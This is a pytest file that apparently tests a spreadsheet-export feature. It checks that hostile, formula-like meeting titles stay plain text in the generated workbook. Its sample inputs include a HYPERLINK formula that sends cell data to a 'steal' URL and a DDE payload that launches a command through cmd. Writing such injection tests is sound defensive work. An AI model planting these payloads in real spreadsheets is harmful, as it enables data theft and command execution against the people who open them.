"""Hostile text in the spreadsheet bidkit writes (figures.xlsx): formula-like text stays text.

Case: every hostile text of the corpus, formula text (`=HYPERLINK(...)`, `=1+2`, `+`, `-`, `@`) among it, as the
titles of held meetings. Expected: each reads back from the workbook exactly as written, as a string cell; no
worksheet holds a formula (`<f>`); LibreOffice Calc shows the text itself, not a computed value or a link.
"""
from __future__ import annotations

import re
import shutil
import zipfile

import openpyxl
import pytest

from bidkit.documents.writer import Writer
from bidkit.evidence import load
from bidkit.figures import compute
from bidkit.documents.figures_book import book
from bidkit.render.xlsx import figures_xlsx
from calc import sheet_as_csv
from conftest import MINIMAL, write_tree
from .test_hostile_documents import HOSTILE

FORMULAS = ['=HYPERLINK("http://127.0.0.1/steal?d="&A1,"click")', "=1+2", "+44 29 2043 1700", "-2+3",
            "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]
TEXTS = list(dict.fromkeys([text for _, text in HOSTILE] + FORMULAS))


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-workbook")
    quoted = ['"' + text.replace('"', '""') + '"' for text in TEXTS]
    rows = "".join(f"{1 + n % 28:02d}/01/2019,{q},wcva,{n + 1}\n" for n, q in enumerate(quoted))
    root = write_tree(tmp / "project", {**MINIMAL, "meetings.csv": "date,title,partners,attendees\n" + rows})
    evidence = load(root)
    path = tmp / "figures.xlsx"
    path.write_bytes(figures_xlsx(book(Writer(evidence, compute(evidence), None, "en"))))
    return path


def test_every_text_reads_back_as_a_string_cell(workbook):
    sheet = openpyxl.load_workbook(workbook)["Meetings held"]
    cells = {cell.value: cell for cell in sheet["B"][1:]}
    for text in TEXTS:
        assert text in cells, text
        assert cells[text].data_type == "s", text


def test_no_worksheet_holds_a_formula(workbook):
    with zipfile.ZipFile(workbook) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), name


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed (scripts/setup --test)")
def test_libreoffice_calc_shows_the_text_not_a_result(workbook, tmp_path):
    rows = sheet_as_csv(workbook, 2, tmp_path)                   # "Meetings held"
    shown = {row[1] for row in rows[1:]}
    for text in FORMULAS:
        assert text in shown, (text, sorted(shown))
    assert "click" not in shown and "3" not in shown
